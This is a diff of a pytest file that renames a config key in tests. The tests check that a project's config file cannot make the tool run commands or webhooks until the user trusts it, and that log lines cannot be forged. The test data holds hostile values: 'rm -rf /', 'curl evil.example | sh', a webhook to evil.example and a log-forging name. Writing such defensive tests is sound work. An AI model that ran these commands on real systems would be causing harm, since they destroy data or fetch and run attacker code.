@@ -21,8 +21,8 @@ from victor_autotune_plugin.errors import SettingsError
 
 from .conftest import Sources
 
-EVIL = "quality: {command: rm -rf /}\nnotify: {webhooks: [{url: 'https://evil.example'}]}\n"
-METADATA = {"quality": {"command": "curl evil.example | sh"}, "mode": "auto"}
+EVIL = "extras: {command: rm -rf /}\nnotify: {webhooks: [{url: 'https://evil.example'}]}\n"
+METADATA = {"extras": {"command": "curl evil.example | sh"}, "mode": "auto"}
 
 
 @pytest.fixture(autouse=True)
@@ -30,7 +30,7 @@ def acting_keys(monkeypatch: pytest.MonkeyPatch) -> None:
     """Two keys that act, as later versions have them."""
 
     def with_acting(*args: Any) -> dict[str, Kind]:
-        return {**leaves(*args), "quality.command": Acting(Text()), "notify.webhooks": Acting(Anything())}
+        return {**leaves(*args), "extras.command": Acting(Text()), "notify.webhooks": Acting(Anything())}
 
     for module in (resolver, merge):
         monkeypatch.setattr(module, "leaves", with_acting)
@@ -41,7 +41,7 @@ def counts(found: SettingsResolver, metadata: Mapping[str, object] | None = None
     """What counts for a team of keys that act."""
     own, _ = found._own("w", metadata, None)
     entries = found._entries("w", "t", own)
-    return {key: entry.value for key, entry in entries.items() if key.startswith(("quality", "notify"))}
+    return {key: entry.value for key, entry in entries.items() if key.startswith(("extras", "notify"))}
 
 
 def trusted(sources: Sources, *metadata: Mapping[str, object]) -> SettingsResolver:
@@ -58,13 +58,13 @@ def test_what_a_project_asks_for_is_ignored_until_trusted(sources: Sources, capl
     assert counts(found) == {}
     assert found.for_team("w", "t").mode == "auto"
     assert [record.getMessage() for record in caplog.records] == [
-        "autotune: quality.command (.victor/autotune.yaml:2), notify.webhooks (.victor/autotune.yaml:3) is ignored "
+        "autotune: extras.command (.victor/autotune.yaml:2), notify.webhooks (.victor/autotune.yaml:3) is ignored "
         "until you trust it: victor autotune trust"
     ]
     sources.load()
     assert len(caplog.records) == 1
     assert counts(trusted(sources)) == {
-        "quality.command": "rm -rf /",
+        "extras.command": "rm -rf /",
         "notify.webhooks": [{"url": "https://evil.example"}],
     }
 
@@ -75,35 +75,35 @@ def test_metadata_of_a_workflow_is_ignored_until_trusted(sources: Sources, caplo
     assert counts(found, METADATA) == {}
     found.for_team("w", "other", METADATA)
     assert len(caplog.records) == 1
-    assert counts(trusted(sources, METADATA), METADATA) == {"quality.command": METADATA["quality"]["command"]}
-    assert counts(sources.load(), {"quality": {"command": "another"}}) == {}
+    assert counts(trusted(sources, METADATA), METADATA) == {"extras.command": METADATA["extras"]["command"]}
+    assert counts(sources.load(), {"extras": {"command": "another"}}) == {}
 
 
 def test_of_a_workflow_and_a_team_too(sources: Sources) -> None:
-    sources.project_file("workflows: {w: {quality: {command: a}, teams: {t: {notify: {webhooks: b}}}}}")
+    sources.project_file("workflows: {w: {extras: {command: a}, teams: {t: {notify: {webhooks: b}}}}}")
     found = sources.load()
     assert counts(found) == {}
     assert found.acting is not None
     assert [one.path for one in found.acting.settings] == [
-        "workflows.w.quality.command",
+        "workflows.w.extras.command",
         "workflows.w.teams.t.notify.webhooks",
     ]
-    assert counts(trusted(sources)) == {"quality.command": "a", "notify.webhooks": "b"}
+    assert counts(trusted(sources)) == {"extras.command": "a", "notify.webhooks": "b"}
 
 
 def test_what_the_user_sets_counts_and_is_not_replaced(sources: Sources) -> None:
-    sources.user_file("quality: {command: mine}")
+    sources.user_file("extras: {command: mine}")
     sources.project_file(EVIL)
-    assert counts(sources.load()) == {"quality.command": "mine"}
-    variable = {"VICTOR_AUTOTUNE_QUALITY__COMMAND": "env"}
-    assert counts(sources.load(environ=variable)) == {"quality.command": "env"}
-    assert counts(sources.load(overrides={"quality.command": "option"})) == {"quality.command": "option"}
+    assert counts(sources.load()) == {"extras.command": "mine"}
+    variable = {"VICTOR_AUTOTUNE_EXTRAS__COMMAND": "env"}
+    assert counts(sources.load(environ=variable)) == {"extras.command": "env"}
+    assert counts(sources.load(overrides={"extras.command": "option"})) == {"extras.command": "option"}
 
 
 def test_the_file_of_a_project_that_is_the_users_home_is_the_users(tmp_path: Path) -> None:
     home = Sources(tmp_path, tmp_path)
-    home.project_file("quality: {command: mine}")
-    assert counts(home.load()) == {"quality.command": "mine"}
+    home.project_file("extras: {command: mine}")
+    assert counts(home.load()) == {"extras.command": "mine"}
 
 
 def test_a_user_without_a_home_trusts_nothing(sources: Sources, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -123,9 +123,9 @@ def test_a_user_without_a_home_trusts_nothing(sources: Sources, monkeypatch: pyt
     [
         EVIL.replace("rm", "rm "),
         EVIL.replace("rm -rf /", "0"),
-        EVIL + "workflows: {v: {quality: {command: rm -rf /}}}",
-        "quality: {command: rm -rf /}",
-        "workflows: {w: {quality: {command: rm -rf /}}}\nnotify: {webhooks: [{url: 'https://evil.example'}]}\n",
+        EVIL + "workflows: {v: {extras: {command: rm -rf /}}}",
+        "extras: {command: rm -rf /}",
+        "workflows: {w: {extras: {command: rm -rf /}}}\nnotify: {webhooks: [{url: 'https://evil.example'}]}\n",
     ],
 )
 def test_any_change_of_what_acts_ends_the_trust(sources: Sources, text: str) -> None:
@@ -283,7 +283,7 @@ def test_nothing_is_logged_where_nothing_is_ignored(sources: Sources, caplog: py
 
 
 def test_names_of_a_project_forge_no_line_of_the_log(sources: Sources, caplog: pytest.LogCaptureFixture) -> None:
-    sources.project_file('workflows: {"w\\nCRITICAL: \\e[31mforged": {quality: {command: x}}}')
+    sources.project_file('workflows: {"w\\nCRITICAL: \\e[31mforged": {extras: {command: x}}}')
     sources.load()
     (record,) = caplog.records
     assert record.getMessage().isprintable()
